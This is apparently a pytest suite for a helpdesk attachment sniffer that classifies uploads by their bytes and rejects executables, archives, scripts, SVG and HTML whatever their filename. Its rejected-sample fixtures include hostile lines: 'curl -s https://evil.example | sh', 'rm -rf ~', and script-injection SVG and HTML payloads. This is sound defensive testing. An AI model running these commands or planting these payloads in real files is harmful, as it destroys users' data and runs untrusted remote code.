"""Attachment types are decided from the bytes (SPEC §4): real samples of every class, misleading names."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import random
import struct
import tarfile
import time
import zipfile
import zlib

import pytest

from helpdesk.tickets.content import (
    ALLOWED_CONTENT_TYPES,
    JSON_PARSE_LIMIT,
    MAGIC_WINDOW,
    MARKUP_WINDOW,
    TEXT_WINDOW,
    Verdict,
    sniff,
)

# ---------------------------------------------------------------------------------------------
# Real samples, built here so every byte is known
# ---------------------------------------------------------------------------------------------


def png() -> bytes:
    """A 2x2 RGB PNG: signature, IHDR, zlib IDAT, IEND, with real CRCs."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\x00" + bytes([255, 0, 0, 0, 255, 0]) for _ in range(2))  # filter byte + 2 pixels
    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    sig = b"\x89PNG\r\n\x1a\n"
    return sig + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def gif() -> bytes:
    """A 1x1 GIF89a: header, screen descriptor, 2-colour table, image, LZW data, trailer."""
    screen = struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\xff\xff\xff\x00\x00\x00"
    image = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + image + b";"


def jpeg() -> bytes:
    """A 1x1 greyscale baseline JPEG: SOI, APP0 JFIF, DQT, SOF0, DHT (DC, AC), SOS, one block, EOI."""

    def segment(marker: int, body: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body

    jfif = b"JFIF\x00" + struct.pack(">BBBHHBB", 1, 1, 0, 1, 1, 0, 0)
    dqt = b"\x00" + bytes([1] * 64)
    sof = struct.pack(">BHHB", 8, 1, 1, 1) + b"\x01\x11\x00"
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one 1-bit code, for symbol 0 (DC: no diff; AC: EOB)
    sos = b"\x01\x01\x00\x00\x3f\x00"
    return (
        b"\xff\xd8"
        + segment(0xE0, jfif)
        + segment(0xDB, dqt)
        + segment(0xC0, sof)
        + segment(0xC4, b"\x00" + one_code)
        + segment(0xC4, b"\x10" + one_code)
        + segment(0xDA, sos)
        + b"\x3f"  # bits 0 (DC) 0 (EOB), padded with ones
        + b"\xff\xd9"
    )


def webp() -> bytes:
    """A 1x1 lossless WebP: RIFF header, WEBP, one VP8L chunk (padded to even length)."""
    vp8l = bytes.fromhex("2f000000100710111188 88fe07".replace(" ", ""))
    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l + b"\x00"
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def pdf() -> bytes:
    """A one-page PDF 1.4 with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def elf() -> bytes:
    """A 64-bit little-endian ELF executable header for arm64 (e_type EXEC, e_machine AArch64)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = struct.pack("<HHIQQQIHHHHHH", 2, 0xB7, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80, 0x80, 0x1000)
    return ident + header + program + b"\x00\x00\x80\xd2\xa8\x0b\x80\xd2\x01\x00\x00\xd4"


def pe() -> bytes:
    """A DOS 'MZ' header whose e_lfanew points at a PE signature, COFF header and PE32+ magic."""
    dos = bytearray(b"MZ" + bytes(0x3E))
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = struct.pack("<HHIIIHH", 0xAA64, 1, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + stub + b"PE\x00\x00" + coff + struct.pack("<H", 0x20B) + bytes(0xEE)


def macho(magic: int, byte_order: str = "<") -> bytes:
    """A Mach-O header (MH_EXECUTE, arm64) with the given magic, as the loader would read it."""
    fields = [magic, 0x0100000C, 0, 2, 0, 0, 0]
    if magic in (0xFEEDFACF, 0xCFFAEDFE):
        fields.append(0)  # 64-bit headers carry a reserved word
    return struct.pack(byte_order + "I" * len(fields), *fields)


def fat_macho(magic: int = 0xCAFEBABE) -> bytes:
    """A universal binary header with two architectures (arm64, x86_64)."""
    arch = ">IIIII"
    return (
        struct.pack(">II", magic, 2)
        + struct.pack(arch, 0x0100000C, 0, 0x4000, 0x100, 14)
        + struct.pack(arch, 0x01000007, 3, 0x8000, 0x100, 12)
    )


def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tar_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


LOG = (
    b"2024-05-01T12:00:00Z INFO  starting kubelet v1.30.1\n"
    b"2024-05-01T12:00:01Z \x1b[31mERROR\x1b[0m failed to pull image: 429 Too Many Requests\n"
    b"\tat registry.pull(registry.go:118)\r\n"
)
JAR = zip_of(
    {
        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n",
        "Evil.class": b"\xca\xfe\xba\xbe",
    }
)
DOCX = zip_of(
    {
        "[Content_Types].xml": b"<?xml version='1.0'?><Types/>",
        "word/document.xml": b"<w:document/>",
    }
)
NEXT_HEADER = struct.pack("<QQI", 0, 0, 0)  # an empty 7z: next header offset, size, CRC
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(NEXT_HEADER)) + NEXT_HEADER
RAR5 = b"Rar!\x1a\x07\x01\x00" + bytes.fromhex("3392b5e50a01050600050101808000")  # empty RAR 5
RAR4 = b"Rar!\x1a\x07\x00" + bytes.fromhex("cf907300000d00000000000000")  # empty RAR 1.5-4
ZSTD_EMPTY_FRAME = bytes.fromhex("28b52ffd2000010000")  # `zstd -c < /dev/null`, a complete frame

ALLOWED = {
    "png": (png(), "image/png"),
    "jpeg": (jpeg(), "image/jpeg"),
    "gif89a": (gif(), "image/gif"),
    "gif87a": (b"GIF87a" + gif()[6:], "image/gif"),
    "webp": (webp(), "image/webp"),
    "pdf": (pdf(), "application/pdf"),
    "log": (LOG, "text/plain"),
    "ascii": (b"kubectl get pods -A\nNAME READY STATUS\n", "text/plain"),
    "utf8": ("Grüße — 日本語 — emoji 🚀\n".encode(), "text/plain"),
    "utf8 with BOM": ("\ufeffbonjour à tous\n".encode(), "text/plain"),
    "empty": (b"", "text/plain"),
    "json object": (json.dumps({"cluster_id": "c-1", "nodes": [1, 2]}).encode(), "application/json"),
    "json array": (b'  [{"event": "OOMKilled"}]\n', "application/json"),
    "yaml manifest": (
        b"apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers: []\n",
        "application/yaml",
    ),
    "yaml document": (
        b"---\n# values\nreplicas: 3\nimage:\n  tag: '1.2'\nports:\n  - 80\n  - 443\n",
        "application/yaml",
    ),
}

REJECTED = {
    "elf": (elf(), "application/x-executable"),
    "pe": (pe(), "application/vnd.microsoft.portable-executable"),
    "mach-o 64 le": (macho(0xFEEDFACF), "application/x-mach-binary"),
    "mach-o 64 be": (macho(0xFEEDFACF, ">"), "application/x-mach-binary"),
    "mach-o 32 le": (macho(0xFEEDFACE), "application/x-mach-binary"),
    "mach-o 32 be": (macho(0xFEEDFACE, ">"), "application/x-mach-binary"),
    "mach-o fat": (fat_macho(), "application/x-mach-binary"),
    "mach-o fat64": (fat_macho(0xCAFEBABF), "application/x-mach-binary"),
    "mach-o fat swapped": (struct.pack("<I", 0xCAFEBABE) + fat_macho()[4:], "application/x-mach-binary"),
    "mach-o fat64 swapped": (struct.pack("<I", 0xCAFEBABF) + fat_macho()[4:], "application/x-mach-binary"),
    "shell script": (b"#!/bin/sh\ncurl -s https://evil.example | sh\n", "text/x-shellscript"),
    "python script": (b"#!/usr/bin/env python3\nprint('hi')\n", "text/x-shellscript"),
    "script with BOM": (b"\xef\xbb\xbf#!/bin/bash\nrm -rf ~\n", "text/x-shellscript"),
    "self-extracting script": (
        b"#!/bin/sh\ntail -n +3 $0 | tar x\n" + gzip.compress(b"payload"),
        "text/x-shellscript",
    ),
    "zip": (zip_of({"notes.txt": b"hello"}), "application/zip"),
    "empty zip": (zip_of({}), "application/zip"),
    "jar": (JAR, "application/zip"),
    "docx": (DOCX, "application/zip"),
    "gzip": (gzip.compress(LOG), "application/gzip"),
    "bzip2": (bz2.compress(LOG), "application/x-bzip2"),
    "xz": (lzma.compress(LOG), "application/x-xz"),
    "7z": (SEVEN_ZIP, "application/x-7z-compressed"),
    "rar5": (RAR5, "application/vnd.rar"),
    "rar4": (RAR4, "application/vnd.rar"),
    "tar": (tar_of({"app.log": LOG}), "application/x-tar"),
    "zstd": (ZSTD_EMPTY_FRAME, "application/zstd"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
    "svg with prolog": (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape -->\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
        b'  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        b'<svg width="10" height="10"/>',
        "image/svg+xml",
    ),
    "svg with BOM and space": (b'\xef\xbb\xbf \r\n\t<svg viewBox="0 0 1 1"/>', "image/svg+xml"),
    "svg after a long comment": (
        b"<?xml version='1.0'?>\n<!--" + b" licence " * 200 + b"-->\n<svg/>",
        "image/svg+xml",
    ),
    "svg prefixed": (b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
    "svg upper case": (b"<SVG onload=alert(1)>", "image/svg+xml"),
    "svg in utf-16": ('<svg xmlns="http://www.w3.org/2000/svg"/>'.encode("utf-16"), "image/svg+xml"),
    "html doctype": (b"<!DOCTYPE html>\n<html><body>hi</body></html>", "text/html"),
    "html upper case after space": (b"\r\n\n   <HTML>\n<HEAD><TITLE>x</TITLE></HEAD>", "text/html"),
    "html with BOM": (b"\xef\xbb\xbf<head><meta charset=utf-8>", "text/html"),
    "html body": (b"<body onload=alert(1)>", "text/html"),
    "html script": (b"<script>fetch('/v1/me')</script>", "text/html"),
    "html after comment": (b"<!-- saved from url=(0014)about:internet -->\n<html>", "text/html"),
    "html near the start": (b"Notes for support\n\n<script>document.location='//evil'</script>", "text/html"),
    "xhtml": (b'<?xml version="1.0"?>\n<x:page xmlns:x="http://www.w3.org/1999/xhtml"/>', "text/html"),
    "rtf": (b"{\\rtf1\\ansi{\\object\\objemb}}", "application/rtf"),
    "ole": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "application/x-ole-storage"),
    "random bytes": (random.Random(7).randbytes(4096), "application/octet-stream"),
    "text with NULs": (b"abc\x00def\n", "application/octet-stream"),
    "invalid utf-8": (b"caf\xe9 au lait\n", "application/octet-stream"),
    "control garbage": (b"ab\x01\x02\x03\x04cd\x05\x06\x07\x0e\x0f\n", "application/octet-stream"),
    "png with a jar appended": (png() + JAR, "application/zip"),
    "long log with a jar appended": (LOG * 1000 + JAR, "application/zip"),
    "pdf with a docx appended": (pdf() + DOCX, "application/zip"),
}

MISLEADING_NAMES = ("notes.txt", "screenshot.png", "report.pdf", "values.yaml", "app.log", None)


# ---------------------------------------------------------------------------------------------
# Allowed and rejected classes
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("data", "content_type"), ALLOWED.values(), ids=ALLOWED.keys())
def test_allowed_types_are_accepted_with_their_sniffed_type(data: bytes, content_type: str) -> None:
    verdict = sniff(data)

    assert verdict == Verdict(True, content_type, verdict.reason)
    assert verdict.content_type in ALLOWED_CONTENT_TYPES


@pytest.mark.parametrize("filename", MISLEADING_NAMES)
@pytest.mark.parametrize(("data", "content_type"), REJECTED.values(), ids=REJECTED.keys())
def test_rejected_types_stay_rejected_whatever_their_name(
    data: bytes,
    content_type: str,
    filename: str | None,
) -> None:
    verdict = sniff(data, filename)

    assert not verdict.allowed
    assert verdict.content_type == content_type
    assert "cannot be attached" in verdict.reason
    assert "PNG, JPEG, GIF, WebP and PDF" in verdict.reason  # the 415 says what would be accepted


@pytest.mark.parametrize("filename", ["photo.exe", "a.svg", "x.html", "bin", None])
@pytest.mark.parametrize(("data", "content_type"), ALLOWED.values(), ids=ALLOWED.keys())
def test_a_suspicious_name_does_not_reject_good_content(
    data: bytes,
    content_type: str,
    filename: str | None,
) -> None:
    assert sniff(data, filename).allowed


def test_magic_numbers_need_only_the_first_8_kib() -> None:
    # Given a tar whose first member is large, so the archive is much longer than the magic window
    big_tar = tar_of({"big.log": LOG * 2000})
    assert len(big_tar) > 8 * MAGIC_WINDOW

    # Then its first 8 KiB already say what it is, as they do for every binary sample
    assert sniff(big_tar[:MAGIC_WINDOW]).content_type == "application/x-tar"
    for name in ("png", "jpeg", "gif89a", "webp", "pdf"):
        data, content_type = ALLOWED[name]
        assert sniff(data[:MAGIC_WINDOW]).content_type == content_type


# ---------------------------------------------------------------------------------------------
# Text: logs, windows, encodings
# ---------------------------------------------------------------------------------------------


def test_a_long_log_is_judged_on_its_first_64_kib() -> None:
    # Given a 2 MB log whose text window ends in the middle of a multi-byte character
    line = "pod web-1 → CrashLoopBackOff (exit 137)\n".encode()
    data = b"a" * (TEXT_WINDOW - 1) + "→".encode() + line * 50_000

    verdict = sniff(data)

    assert verdict.allowed
    assert verdict.content_type == "text/plain"


def test_a_windows_utf16_log_is_text_with_its_charset() -> None:
    data = "PS C:\\> Get-EventLog -LogName System -Newest 2\r\n  Index Time  EntryType\r\n".encode("utf-16")

    verdict = sniff(data, "eventlog.txt")

    assert verdict.allowed
    assert verdict.content_type == "text/plain; charset=utf-16"


def test_a_few_stray_control_characters_do_not_make_a_log_binary() -> None:
    data = LOG * 20 + b"progress: 50%\x08\x08\x08100%\x07 done\n"

    assert sniff(data).content_type == "text/plain"


def test_xml_that_is_neither_svg_nor_html_is_plain_text() -> None:
    pom = b'<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0"><a/></project>\n'

    assert sniff(pom, "pom.xml") == Verdict(True, "text/plain", "Plain text")


def test_html_quoted_deep_in_a_log_is_still_a_log() -> None:
    # Given a log that only shows an error page well after its start
    data = b"x" * MARKUP_WINDOW + b"\n" + LOG + b"upstream said: <html><body>502 Bad Gateway</body></html>\n"

    assert sniff(data).content_type == "text/plain"


def test_text_mentioning_tags_in_prose_is_text() -> None:
    assert sniff(b"if a<b and b>c then <svg-like> names are fine; <scripted> too\n").allowed


# ---------------------------------------------------------------------------------------------
# JSON and YAML labels
# ---------------------------------------------------------------------------------------------


def test_json_quoting_an_error_page_is_json_not_html() -> None:
    data = json.dumps({"status": 502, "body": "<html><head></head><body>Bad Gateway</body></html>"}).encode()

    assert sniff(data).content_type == "application/json"


@pytest.mark.parametrize(
    "data",
    [b'{"unterminated": ', b"[" * 100_000, b"42", b'"just a string"'],
    ids=["invalid", "too deep", "number", "string"],
)
def test_text_that_is_not_a_json_document_is_plain_text(data: bytes) -> None:
    assert sniff(data) == Verdict(True, "text/plain", "Plain text")


def test_a_big_json_document_is_parsed_whole() -> None:
    data = json.dumps([{"line": i, "message": "ok"} for i in range(20_000)]).encode()
    assert len(data) > TEXT_WINDOW

    assert sniff(data).content_type == "application/json"


def test_yaml_by_name_needs_yaml_structure() -> None:
    values = b"replicas: 3\nimage:\n  repository: nginx\n  tag: stable\n"
    prose = b"We upgraded yesterday.\nSince then pods restart every few minutes.\nPlease help.\n"

    assert sniff(values, "values.YML").content_type == "application/yaml"
    assert sniff(values, "values.txt").content_type == "text/plain"
    assert sniff(values).content_type == "text/plain"
    assert sniff(prose, "notes.yaml").content_type == "text/plain"


def test_a_log_starting_with_dashes_is_not_yaml() -> None:
    data = b"---\n2024-05-01 12:00:01 ERROR failed\n2024-05-01 12:00:02 ERROR failed again\n"

    assert sniff(data).content_type == "text/plain"


def test_json_beyond_the_parse_limit_is_allowed_as_plain_text() -> None:
    data = json.dumps([{"line": i} for i in range(JSON_PARSE_LIMIT // 10)]).encode()
    assert len(data) > JSON_PARSE_LIMIT

    assert sniff(data) == Verdict(True, "text/plain", "Plain text")


@pytest.mark.parametrize(
    "data",
    [
        b"---\nkey" + b" " * (TEXT_WINDOW - 20) + b"\n",
        b"---\n-" + b" " * (TEXT_WINDOW - 20) + b"\n",
        b"<" + b"a" * (TEXT_WINDOW - 10),
        b"<?x?>" * (TEXT_WINDOW // 5),
    ],
    ids=["long key", "long item", "long tag", "many instructions"],
)
def test_hostile_text_is_judged_quickly(data: bytes) -> None:
    started = time.perf_counter()

    assert sniff(data, "values.yaml").allowed

    assert time.perf_counter() - started < 0.5  # a backtracking pattern took seconds here
